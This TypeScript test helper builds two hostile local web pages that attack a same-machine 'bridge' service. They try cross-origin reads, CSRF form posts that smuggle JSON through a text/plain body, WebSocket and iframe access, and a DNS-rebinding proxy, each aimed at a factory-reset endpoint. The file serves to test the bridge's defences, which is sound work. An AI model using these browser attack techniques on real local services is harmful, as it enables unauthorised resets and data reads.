import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer } from 'node:net';
import { text } from 'node:stream/consumers';
import { onTestFinished } from 'vitest';

/** The result of an attempt: what the page could read, or how it failed. */
export interface Attempt {
  readonly name: string;
  readonly outcome: string;
}

/**
 * A web site that attacks the bridge at `victim` from a browser on the same machine, in every way that a page can. Its
 * page at /attack reports the result of each attempt; the last one is named "done".
 */
export async function hostileSite(victim: string) {
  const attempts: Attempt[] = [];
  const server = createServer(async (request, reply) => {
    if (request.method === 'POST') attempts.push(JSON.parse(await text(request)) as Attempt);
    reply.writeHead(200, { 'content-type': 'text/html' }).end(request.url === '/attack' ? attackPage(victim) : '');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, attempts };
}

/**
 * A site with a rebound host name: /attack comes from the attacker's server, everything else from the victim, under the
 * attacker's name and the victim's port.
 */
export async function reboundSite(victim: string, reportTo: string): Promise<string> {
  const port = Number(new URL(victim).port);
  const page = reboundPage(reportTo);
  const head = `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${Buffer.byteLength(page)}\r\nConnection: close`;
  const server = createTcpServer((socket) => {
    socket.on('error', () => socket.destroy());
    socket.once('data', (first: Buffer) => {
      if (first.toString('latin1').startsWith('GET /attack ')) {
        socket.end(`${head}\r\n\r\n${page}`);
        return;
      }
      const upstream = connect(port, '127.0.0.1');
      upstream.on('error', () => socket.destroy());
      upstream.write(first);
      socket.pipe(upstream).pipe(socket);
    });
  });
  server.listen(port, '127.0.0.2');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return `http://rebound.test:${port}/attack`;
}

const REPORT = `
  async function attempt(name, run) {
    let outcome;
    try { outcome = String(await Promise.race([run(), new Promise((done) => setTimeout(done, 4000, 'no answer'))])); }
    catch (error) { outcome = 'failed: ' + error; }
    await fetch(reportTo, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ name, outcome }) });
  }
  const reset = { method: 'POST', body: JSON.stringify({ confirm: true }) };`;

function attackPage(victim: string): string {
  const { port } = new URL(victim);
  return `<!doctype html><title>Hostile</title><body><script>
  const victim = ${JSON.stringify(victim)}, reportTo = '/report';
  ${REPORT}
  const read = async (url, options) => { const reply = await fetch(url, options); return reply.type + ' ' + await reply.text(); };
  const framed = (url) => new Promise((done) => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: url }));
    frame.onload = () => { try { done('frame ' + frame.contentDocument.documentElement.outerHTML); } catch (error) { done('frame closed'); } };
  });
  const posted = (type) => new Promise((done) => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'into-' + type }));
    const form = document.body.appendChild(Object.assign(document.createElement('form'),
      { method: 'post', action: victim + '/bridge/factory_reset', enctype: type, target: frame.name }));
    form.appendChild(Object.assign(document.createElement('input'), { name: '{"confirm":true,"x":"', value: '"}' }));
    setTimeout(done, 700, 'posted');
    form.submit();
  });
  const socket = (protocols) => new Promise((done) => {
    const events = new WebSocket(victim.replace('http', 'ws') + '/bridge/events', protocols);
    events.onopen = () => done('socket open');
    events.onerror = () => done('socket refused');
  });
  const script = (url) => new Promise((done) => {
    const tag = document.body.appendChild(Object.assign(document.createElement('script'), { src: url }));
    tag.onload = () => done('script loaded'); tag.onerror = () => done('script refused');
  });
  (async () => {
    await attempt('read page', () => read(victim + '/'));
    await attempt('read page without cors', () => read(victim + '/', { mode: 'no-cors' }));
    await attempt('read page as localhost', () => read('http://localhost:${port}/'));
    await attempt('call', () => read(victim + '/bridge/factory_reset', { ...reset, headers: { 'content-type': 'application/json' } }));
    await attempt('call without cors', () => read(victim + '/bridge/factory_reset', { ...reset, mode: 'no-cors' }));
    await attempt('call as localhost', () => read('http://localhost:${port}/bridge/factory_reset', { ...reset, mode: 'no-cors' }));
    await attempt('form', () => posted('text/plain'));
    await attempt('form url encoded', () => posted('application/x-www-form-urlencoded'));
    await attempt('socket', () => socket(['berth-bridge', 'guess']));
    await attempt('socket without protocol', () => socket());
    await attempt('frame', () => framed(victim + '/'));
    await attempt('script', () => script(victim + '/'));
    await attempt('done', () => 'done');
  })();
  </script>`;
}

function reboundPage(reportTo: string): string {
  return `<!doctype html><title>Rebound</title><body><script>
  const reportTo = ${JSON.stringify(reportTo)};
  ${REPORT}
  (async () => {
    await attempt('read page', async () => (await fetch('/', { cache: 'no-store' })).text());
    await attempt('call', async () => (await fetch('/bridge/factory_reset',
      { ...reset, headers: { 'content-type': 'application/json', 'x-berth-page-token': 'guess' } })).text());
    await attempt('done', () => 'done');
  })();
  </script>`;
}
